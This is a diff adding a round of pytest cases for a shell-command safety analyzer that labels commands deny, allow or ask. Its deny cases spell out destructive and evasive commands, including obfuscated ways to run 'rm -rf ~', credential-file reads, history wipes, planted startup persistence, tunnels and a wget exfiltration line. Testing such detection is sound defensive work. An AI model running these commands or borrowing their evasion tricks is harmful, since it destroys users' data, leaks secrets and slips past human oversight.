@@ -729,3 +729,113 @@ def test_round10_confined_look_alikes_run_without_asking(command: str) -> None:
 def test_round10_look_alikes_that_still_need_a_human_ask(command: str) -> None:
     analysis = analyze_command(command, workspace=WS)
     assert analysis.decision == "ask", analysis.findings
+
+
+# Round 11: blind cohort 4 (both halves), the old corpus's misses, and probes of each class.
+# The workspace here is /home/me/proj, so its home is /home/me.
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        # one spelling per place: the workspace's home written absolute is ~
+        ("rm -rf /home/me/proj/../.config", "rm-recursive-protected"),
+        ("cat /home/me/.kube/config", "secret-read"),
+        # the home's own top folders hold other projects
+        ("rm -rf ~/src", "rm-recursive-protected"),
+        ("rsync -a --delete ./empty/ ~/work/", "rsync-delete-protected"),
+        # every shell's history
+        ("rm -f ~/.local/share/fish/fish_history", "history-wipe"),
+        ("rm ~/.local/share/atuin/history.db", "history-wipe"),
+        # a PATH through /tmp left in a startup file of any shell
+        ("echo 'export PATH=/tmp/.bin:$PATH' >> ~/.profile", "persistence-planted"),
+        ("echo 'fish_add_path /tmp/.x' >> ~/.config/fish/config.fish", "persistence-planted"),
+        ("echo 'alias ls=\"rm -rf ~\"' >> ~/.bash_aliases", "rm-recursive-protected"),
+        # interpolations of other languages, awk into a shell, adjacent backticks, globs
+        ("ruby -e '`rm -rf #{Dir.home}`'", "rm-recursive-protected"),
+        ("echo 'exec rm -rf $env(HOME)/src' | tclsh", "rm-recursive-protected"),
+        ('awk \'BEGIN{print "rm -rf ~" | "sh"}\'', "rm-recursive-protected"),
+        ("`echo r``echo m` -rf /", "rm-recursive-protected"),
+        ("/bin/r? -rf ~", "rm-recursive-protected"),
+        ("bash <(echo 'rm -rf ~')", "rm-recursive-protected"),
+        ("alias x='rm -rf'; x ~", "rm-recursive-protected"),
+        # commands given in options, scripts written then run, code left in modules
+        ("tar -xf x.tar --to-command='sh -c \"rm -rf ~\"'", "rm-recursive-protected"),
+        ("ssh -o ProxyCommand='rm -rf ~' host", "rm-recursive-protected"),
+        ("echo 'rm -rf ~' > x.sh && bash x.sh", "rm-recursive-protected"),
+        ("echo 'import os; os.system(\"rm -rf ~\")' >> ./p/__init__.py", "rm-recursive-protected"),
+        ("export PROMPT_COMMAND='rm -rf ~'", "rm-recursive-protected"),
+        # history purged for good, installs from an address, volumes, storage, tunnels
+        ("git reflog expire --expire=now --all && git gc --prune=now", "git-purge-history"),
+        ("pip install https://files.example.net/requests-2.31.0.tar.gz", "install-from-url"),
+        ("docker-compose down -v", "container-volumes-delete"),
+        ("gcloud storage rm -r gs://b", "cloud-storage-wipe"),
+        ("ngrok http 8000", "reverse-tunnel"),
+        ("wget https://x.example/?u=$USER", "exfiltration"),
+        ("cat ~/.config/rclone/rclone.conf", "secret-read"),
+    ],
+)
+def test_round11_dangerous_classes_are_denied_by_their_rule(command: str, rule: str) -> None:
+    analysis = analyze_command(command, workspace=WS)
+    assert analysis.decision == "deny", analysis.findings
+    assert rule in [f.rule for f in analysis.findings], analysis.findings
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'rm -rf "$PWD/.pytest_cache"',
+        'rm -rf "$(pwd)/build"',
+        'cd src && rm -rf "$PWD/x"',
+        'tmp=$(mktemp -d ./tmp.XXXX) && rm -rf -- "$tmp"',
+        't=$(mktemp -d -t build.XXXXXX) && rm -rf "$t"',
+        "rm -rf ~/proj/build",  # the workspace written through ~
+        "rm -f ./fixtures/fish/fish_history",
+        "php -r 'echo strlen(\"system\");'",
+        "node -e 'console.log(\"exec\".length)'",
+        "awk '{print $1 | \"sort -u\"}' data.txt",
+        "gh gist list --limit 5",
+        "gh pr view 12 --comments",
+        "npx tsc --noEmit",
+        "npx --no-install eslint .",
+        "find ./tmp -mtime +7 -delete",
+        "find ./build -type f -exec rm {} +",
+        "tar -xzf ./dist/tool.tgz -C ./build",
+        'd=$(mktemp -d) && tar -xzf ./x.tgz -C "$d"',
+        "tar -I zstd -xf x.tar.zst",
+        "pip install -r requirements.txt --dry-run",
+        "git worktree add ./.worktrees/x",
+        "docker-compose ps",
+        "echo 'echo hi' > x.sh && bash x.sh",
+        "export PROMPT_COMMAND='history -a'",
+        "kill -9 1234",
+    ],
+)
+def test_round11_confined_look_alikes_run_without_asking(command: str) -> None:
+    analysis = analyze_command(command, workspace=WS)
+    assert analysis.decision == "allow", analysis.findings
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ('cd "$X" && rm -rf build', "rm-recursive"),  # no longer the workspace's build
+        ("cd - && rm -rf build", "rm-recursive"),
+        ("tar -xzf ./dist/tool.tgz -C /tmp", "outside-workspace"),  # names the archive chose
+        ("unzip ./a.zip -d /tmp", "outside-workspace"),
+        ("find /tmp -name '*.log' -exec rm {} +", "rm-recursive"),
+        ('find "$D" -name x -delete', "find-delete"),
+        ("ls | xargs -I{} rm -rf {}", "rm-recursive"),
+        ("find . | xargs rm -f", "rm-recursive"),
+        ('alias x="rm -rf"; x "$D"', "rm-recursive"),
+        ("npx cowsay hi", "fetch-and-run"),
+        ("pnpm dlx create-vite", "fetch-and-run"),
+        ("black ~/notes.py", "outside-workspace"),
+        ("git worktree remove --force ../wt", "git-discard"),
+        ("git worktree add ../wt2", "outside-workspace"),
+        ("kill 0", "kill-group"),
+        ("/usr/bin/c?t ./README.md", "glob-command"),
+    ],
+)
+def test_round11_look_alikes_that_still_need_a_human_ask(command: str, rule: str) -> None:
+    analysis = analyze_command(command, workspace=WS)
+    assert analysis.decision == "ask", analysis.findings
+    assert rule in [f.rule for f in analysis.findings], analysis.findings
